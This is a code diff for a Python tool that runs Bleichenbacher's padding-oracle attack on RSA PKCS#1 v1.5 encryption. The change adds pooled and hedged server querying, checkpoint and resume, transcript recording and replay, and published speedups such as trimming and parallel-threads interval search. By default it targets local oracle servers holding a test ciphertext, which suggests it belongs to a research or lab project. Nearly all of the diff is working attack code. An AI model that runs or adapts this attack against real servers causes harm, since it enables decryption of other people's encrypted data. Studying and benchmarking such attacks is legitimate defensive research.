@@ -1,12 +1,18 @@
 from Crypto.Util.number import long_to_bytes, bytes_to_long
 from Crypto.PublicKey import RSA
 from Crypto.Cipher import PKCS1_v1_5
-from attack.oracle import oracle, init_oracle, KEY_SIZE, ServerClosed
+from attack.oracle import ServerClosed
+from attack.backends import OracleBackend, LocalKeyBackend
+from attack.oracle_pool import OraclePool
 from attack.disjoint_segments import DisjointSegments
+from attack.checkpoint import Checkpointer, load_checkpoint
+from attack.transcript import RecordingOracle, ReplayOracle
 from attack.create_attack_config import get_cipher, get_public
-from random import randint
-from concurrent.futures import ThreadPoolExecutor
-from itertools import chain, count, islice, cycle
+from attack.trimming import DEFAULT_TRIMMERS, trim
+from attack.skipping_holes import SkippingHoles
+from utils.attack_utils import ceil_div
+from random import Random
+from itertools import chain, count
 from typing import Iterator
 import sys
 import os
@@ -15,20 +21,6 @@ import json
 import argparse
 
 
-def ceil_div(x: int, y: int) -> int:
-    """
-    This function is used to calculate the ceiling division of two numbers.
-    """
-    return (x + y - 1) // y
-
-
-def batched(iterable, n: int):
-    """Yield successive n-sized batches from the iterable."""
-    it = iter(iterable)
-    while batch := (islice(it, n)):  # Collect n items at a time
-        yield batch
-
-
 def attack_arguments_parser() -> argparse.Namespace:
     """
     Parses command-line arguments for configuring the Bleichenbacher attack.
@@ -57,7 +49,73 @@ def attack_arguments_parser() -> argparse.Namespace:
         "-p", "--port", help="sets the server's base port, defaults to 8001"
     )
     parser.add_argument("--host", help="sets the server's host, defaults to localhost")
+    parser.add_argument(
+        "-w",
+        "--window",
+        help="number of queries kept in flight on each server, defaults to 1",
+    )
+    parser.add_argument(
+        "--hedge",
+        help="resend queries that take longer than this percentile of the reply times to another server, e.g. 99.9",
+    )
+    parser.add_argument(
+        "--key-id",
+        help="picks this key on servers that host several keys",
+    )
+    parser.add_argument(
+        "--public-key",
+        help="the public key file of the attacked key, defaults to public_key.rsa",
+    )
+    parser.add_argument(
+        "--local",
+        action="store_true",
+        help="answers the queries in-process with private_key.rsa instead of the servers",
+    )
+    parser.add_argument(
+        "-t",
+        "--trim",
+        nargs="?",
+        const=str(DEFAULT_TRIMMERS),
+        help="trims the possible messages with this many trimmer queries before step 2.a"
+        f" (Bardou et al.), defaults to {DEFAULT_TRIMMERS} when given without a number",
+    )
+    parser.add_argument(
+        "--skip-holes",
+        action="store_true",
+        help="skips the s of steps 2.a and 2.b which cannot be conforming for any message in M",
+    )
+    parser.add_argument(
+        "--parallel-threads",
+        action="store_true",
+        help="searches every interval of M like step 2.c, interleaved, when step 2.b has several intervals",
+    )
+    parser.add_argument(
+        "--checkpoint",
+        help="periodically saves the state of the attack to this file",
+    )
+    parser.add_argument(
+        "--resume",
+        action="store_true",
+        help="continues the attack saved in the checkpoint file",
+    )
+    parser.add_argument(
+        "--record",
+        help="records the oracle's answers to this transcript file",
+    )
+    parser.add_argument(
+        "--replay",
+        help="answers the queries from this transcript file instead of the servers",
+    )
     my_args = parser.parse_args()
+    if my_args.resume and not my_args.checkpoint:
+        parser.error("--resume requires --checkpoint")
+    if my_args.hedge is not None:
+        try:
+            percentile = float(my_args.hedge)
+        except ValueError:
+            parser.error(f"--hedge expects a percentile, got {my_args.hedge!r}")
+        if not 0 < percentile < 100:
+            parser.error("--hedge expects a percentile between 0 and 100, exclusive")
     return my_args
 
 
@@ -71,52 +129,64 @@ class MultiServerAttacker:
         N: int,
         E: int,
         ct: int,
-        hosts: list[str],
-        ports: list[int],
+        backend: OracleBackend,
         random_blinding: bool = False,
         verbose: bool = False,
         iteration: int = 1,
+        checkpoint: str | None = None,
+        trimmers: int = 0,
+        skip_holes: bool = False,
+        parallel_threads: bool = False,
     ) -> None:
         """
         Initializes the attacker with necessary parameters like modulus, public exponent, ciphertext,
-        server information, and attack configuration.
+        the oracle backend, and attack configuration.
 
         Args:
             N (int): The modulus of the RSA public key.
             E (int): The public exponent of the RSA public key.
             ct (int): The ciphertext to attack.
-            hosts (list[str] | str): List or single IP address of the server(s).
-            ports (list[int] | int): List or single port number(s) of the server(s).
+            backend (OracleBackend): Answers the queries, usually an `OraclePool` over the servers.
             random_blinding (bool, optional): Whether to start searching for blinding at a random value. Defaults to False.
             verbose (bool, optional): If True, prints progress information. Defaults to False.
             iteration (int, optional): The starting iteration value. Defaults to 1.
+            checkpoint (str | None, optional): A file to periodically save the state of the attack to.
+                Defaults to None, which disables checkpointing.
+            trimmers (int, optional): The number of trimmer queries to trim M with before step 2.a,
+                see `attack.trimming`. Defaults to 0, which skips the trimming.
+            skip_holes (bool, optional): If True, steps 2.a and 2.b skip the s which cannot be conforming
+                for any message in M, see `attack.skipping_holes`. Defaults to False, for a linear scan.
+            parallel_threads (bool, optional): If True, step 2.b searches every interval of M like step 2.c,
+                interleaving their candidates. Defaults to False, for a linear scan.
         """
         self.N = N
         self.E = E
         self.ct = ct
         self.C = ct
-        self.thread_count = len(ports)
-        self.conns = [
-            init_oracle(host, port) for host, port in zip(hosts, ports, strict=True)
-        ]
+        self.backend = backend
         self.K = len(long_to_bytes(N))
         self.B = pow(
             2, 8 * (self.K - 2)
         )  # the value of the lsb in the second most significant byte of N
         self.random_blinding = random_blinding
+        self.random = Random(backend.seed)
         self.s_list: list[int] = []
         self.M: DisjointSegments = DisjointSegments(
             [range(2 * self.B, 3 * self.B)]
         )  # the set of possible solutions
         self.iteration = iteration
-        self.conn_cycler = cycle(self.conns)
         self.last_print = 0
         self.verbose = verbose
+        self.checkpointer = Checkpointer(checkpoint) if checkpoint else None
+        self.trimmers = trimmers
+        self.skip_holes = skip_holes
+        # candidates skipped in the holes of M, which the linear scan queries
+        self.skipped = 0
+        self.parallel_threads = parallel_threads
 
     def oracle(self, num: int) -> bool:
         """
-        Queries the oracle (server) with a given number and returns the response.
-        The oracle is cycled through multiple servers if more than one is provided.
+        Queries the oracle backend with a given number and returns the response.
 
         Args:
             num (int): The number to send to the oracle.
@@ -124,7 +194,7 @@ class MultiServerAttacker:
         Returns:
             bool: The result returned by the oracle.
         """
-        return oracle(num, next(self.conn_cycler))
+        return self.backend.oracle(num)
 
     def s_oracle(self, s: int) -> tuple[bool, int]:
         """
@@ -145,94 +215,119 @@ class MultiServerAttacker:
         Returns:
             tuple[int, int]: The blinded ciphertext and the value of s0.
         """
-        start = randint(1, self.N - 1) if self.random_blinding else 1
-        s0 = self.find_next_conforming(start)
+        start = self.random.randint(1, self.N - 1) if self.random_blinding else 1
+        s0 = self.search_iterator(count(start))
         self.s0 = s0
         self.s_list.append(s0)
         self.C = self.ct * pow(s0, self.E, self.N) % self.N
         return self.C, s0
 
-    def find_next_conforming(self, start: int, chunk_size: int = 1000) -> int:
+    def trim(self) -> range:
         """
-        This function is used to search for the next s_i.
+        Trims M before step 2.a with `trimmers` queries, see `attack.trimming`.
+
+        Returns:
+            range: The interval the blinded message is in.
         """
-        return self.search_iterator(count(start), chunk_size)
+        interval = trim(self.backend, self.C, self.N, self.B, self.trimmers)
+        self.M = DisjointSegments([interval])
+        return interval
 
-    def search_iterator(self, iterator: Iterator, chunk_size: int = 1000) -> int:
+    def find_next_conforming(self, start: int) -> int:
         """
-        Searches for the next s_i that conforms to the oracle's response starting from a given point.
+        This function is used to search for the next s_i, from `start` on.
+        """
+        if self.skip_holes:
+            return self.search_iterator(SkippingHoles(self.M, self.B, self.N, start))
+        return self.search_iterator(count(start))
+
+    def search_iterator(self, iterator: Iterator) -> int:
+        """
+        Searches for the next s_i that conforms to the oracle's response, trying the candidates in order.
+        The backend decides how the candidates are sent, e.g. an oracle pool spreads them over all the servers.
 
         Args:
-            start (int): The starting point for the search.
-            chunk_size (int, optional): The number of queries to send in each batch. Defaults to 1000.
+            iterator (Iterator): The candidates for s_i, in the order they should be tried.
 
         Returns:
             int: The next s_i that conforms to the oracle.
         """
-        if (
-            self.iteration <= 10
-        ):  # if the iteration is less than 10, use parallel search
-            with ThreadPoolExecutor(len(self.conns)) as executor:
-                for batch in batched(iterator, chunk_size):
-                    results = executor.map(self.s_oracle, batch)
-                    for result, query in results:
-                        if result:
-                            executor.shutdown(cancel_futures=True)
-                            return query
-        else:  # for the rest of the iterations, parallel search is overkill and the thread creation wastes time
-            for query in iterator:
-                if self.s_oracle(query)[0]:
-                    return query
-
-        raise ValueError("Iterator search failed")  # should never reach here
-
-    def search_start(self, chunk_size: int = 1000) -> int:
+        s_i = self.backend.search(self.C, iterator)
+        if isinstance(iterator, SkippingHoles):
+            self.skipped += iterator.skipped_below(s_i)
+        return s_i
+
+    def search_start(self) -> int:
         """
         Starts searching for the next s_i when there are multiple intervals in M.
 
-        Args:
-            chunk_size (int, optional): The number of queries to process in each batch. Defaults to 1000.
-
         Returns:
             int: The next s_i found in the search.
         """
-        s_i = self.find_next_conforming(self.N // (3 * self.B) + 1, chunk_size)
+        # the smallest s for which m0 * s can wrap around N into [2B, 3B), for every m0 in M
+        b = self.M.smallest_inclusive().stop - 1
+        s_i = self.find_next_conforming(ceil_div(self.N + 2 * self.B, b))
         self.s_list.append(s_i)
         return s_i
 
-    def search_mulitiple_intervals(self, chunk_size: int = 1000) -> int:
+    def search_mulitiple_intervals(self) -> int:
         """
         Searches for the next s_i in the case where there are multiple intervals in M.
 
-        Args:
-            chunk_size (int, optional): The number of queries to process in each batch. Defaults to 1000.
+        Returns:
+            int: The next s_i found in the search.
+        """
+        if self.parallel_threads:
+            return self.search_parallel_threads()
+        s_i = self.find_next_conforming(self.s_list[-1] + 1)
+        self.s_list.append(s_i)
+        return s_i
+
+    def search_parallel_threads(self) -> int:
+        """
+        Searches for the next s_i in the case where there are multiple intervals in M, with the parallel threads
+        method of Klima, Pokorny and Rosa: every interval is searched as in step 2.c, as if it were the only one,
+        and the candidates of the intervals are tried in turn. Any conforming s_i narrows M, whichever interval
+        it was searched for, so the search ends at the first one. The backend spreads the interleaved candidates
+        over its connections like any other search.
 
         Returns:
             int: The next s_i found in the search.
         """
-        s_i = self.find_next_conforming(self.s_list[-1] + 1, chunk_size)
+        threads = [self.interval_candidates(interval) for interval in self.M]
+        s_i = self.search_iterator(chain.from_iterable(zip(*threads)))
         self.s_list.append(s_i)
         return s_i
 
-    def search_single_interval(self, interval: range, chunk_size: int = 1000) -> int:
+    def interval_candidates(self, interval: range) -> Iterator[int]:
         """
-        Searches for the next s_i in the case where there is only one interval in M.
+        Yields the candidates for the next s_i of step 2.c, for the blinded message in `interval`.
 
         Args:
-            interval (range): The current interval of possible solutions.
-            chunk_size (int, optional): The number of queries to process in each batch. Defaults to 1000.
+            interval (range): An interval of possible solutions.
 
         Returns:
-            int: The next s_i found in the search.
+            Iterator[int]: The candidates, in the order they should be tried.
         """
         a, b = interval.start, interval.stop - 1
-        iterator = chain.from_iterable(
+        return chain.from_iterable(
             range(
                 (2 * self.B + r_i * self.N) // b, ceil_div(3 * self.B + r_i * self.N, a)
             )
             for r_i in count(2 * ceil_div(b * self.s_list[-1] - 2 * self.B, self.N))
         )
-        s_i = self.search_iterator(iterator, chunk_size)
+
+    def search_single_interval(self, interval: range) -> int:
+        """
+        Searches for the next s_i in the case where there is only one interval in M.
+
+        Args:
+            interval (range): The current interval of possible solutions.
+
+        Returns:
+            int: The next s_i found in the search.
+        """
+        s_i = self.search_iterator(self.interval_candidates(interval))
         self.s_list.append(s_i)
         return s_i
 
@@ -254,7 +349,7 @@ class MultiServerAttacker:
         else:
             assert len(self.M) == 1
             # step 2.c
-            return self.search_single_interval(list(self.M)[0])
+            return self.search_single_interval(self.M.first())
 
     # step 3
     def update_intervals(self, s_i: int) -> DisjointSegments:
@@ -333,7 +428,7 @@ class MultiServerAttacker:
                 f"iteration: {self.iteration}\t\t"
                 + str(
                     long_to_bytes(
-                        (self.M.tolist()[0].start * pow(self.s0, -1, self.N)) % self.N
+                        (self.M.first().start * pow(self.s0, -1, self.N)) % self.N
                     )
                 ),
                 self.last_print,
@@ -341,9 +436,9 @@ class MultiServerAttacker:
 
         # step 4
         if len(self.M) == 1:
-            M_lst: list[range] = list(iter(self.M))
-            if M_lst[0].stop - M_lst[0].start <= 1:
-                return True, M_lst[0]  # found solution
+            interval = self.M.first()
+            if interval.stop - interval.start <= 1:
+                return True, interval  # found solution
 
         return False, range(0)
 
@@ -354,6 +449,7 @@ class MultiServerAttacker:
 
         It repeatedly calls `algo_iteration` to find the next possible solution for the ciphertext.
         The attack continues until a solution is found (i.e., when the oracle server responds with success).
+        If the attack was restored from a checkpoint, the blinding is skipped and it continues from the saved iteration.
 
         Returns:
             tuple[range, int, int]:
@@ -362,16 +458,29 @@ class MultiServerAttacker:
                 - The third element is the final s_i value found in the attack.
         """
         print("started attack")
-        self.blinding()
-        print("did blinding")
+        if not self.s_list:
+            self.blinding()
+            print("did blinding")
+            if self.trimmers:
+                self.trim()
+                print(f"trimmed to {self.M.size()} possible messages")
+            if self.checkpointer:
+                self.checkpointer.save(self)
+        else:
+            print(f"resumed at iteration: {self.iteration}")
         while True:
             res, ans = self.algo_iteration()
             if res:
-                for conn in self.conns:
-                    conn.close()
+                if self.checkpointer:
+                    self.checkpointer.save(self)
+                if self.skip_holes:
+                    print(f"skipped {self.skipped} candidates in the holes of M")
+                self.backend.close()
 
                 return ans, self.s0, self.s_list[-1]
             self.iteration += 1
+            if self.checkpointer:
+                self.checkpointer.maybe_save(self)
 
 
 if __name__ == "__main__":
@@ -389,21 +498,66 @@ if __name__ == "__main__":
     if my_args.host:
         host = my_args.host
 
+    window: int = 1
+    if my_args.window and my_args.window.isdecimal():
+        window = int(my_args.window)
+
+    hedge_percentile: float | None = None
+    if my_args.hedge is not None:
+        hedge_percentile = float(my_args.hedge)
+
+    trimmers: int = 0
+    if my_args.trim and my_args.trim.isdecimal():
+        trimmers = int(my_args.trim)
+
     HOSTS = [host] * num_of_threads
     PORTS = [base_port + i for i in range(num_of_threads)]
-    N, E = get_public()
-    C = get_cipher(
-        "Lorem ipsum dolor sit amet, consectetur adipiscing elit. In fringilla gravida scelerisque. Pellentesque a nisl quam."
-    )
+    public_key = "public_key.rsa"
+    if my_args.public_key:
+        public_key = my_args.public_key
+
+    if my_args.resume:
+        checkpoint = load_checkpoint(my_args.checkpoint)
+        N, E, C = checkpoint.N, checkpoint.E, checkpoint.ct
+    else:
+        N, E = get_public(public_key)
+        C = get_cipher(
+            "Lorem ipsum dolor sit amet, consectetur adipiscing elit. In fringilla gravida scelerisque. Pellentesque a nisl quam.",
+            public_key,
+        )
+    backend: OracleBackend
+    if my_args.replay:
+        backend = ReplayOracle(my_args.replay)
+        C = backend.ciphertext
+    elif my_args.local:
+        backend = LocalKeyBackend.from_file("private_key.rsa")
+    else:
+        backend = OraclePool(
+            N,
+            E,
+            HOSTS,
+            PORTS,
+            window,
+            hedge_percentile=hedge_percentile,
+            key_id=my_args.key_id,
+        )
+    if my_args.record:
+        backend = RecordingOracle(backend, my_args.record)
+
     attacker = MultiServerAttacker(
         N,
         E,
         C,
-        HOSTS,
-        PORTS,
+        backend,
         my_args.random,
         my_args.verbose,
+        checkpoint=my_args.checkpoint,
+        trimmers=trimmers,
+        skip_holes=my_args.skip_holes,
+        parallel_threads=my_args.parallel_threads,
     )
+    if my_args.resume:
+        checkpoint.restore(attacker)
 
     res_range, s0, si = attacker.attack()
     res = res_range.start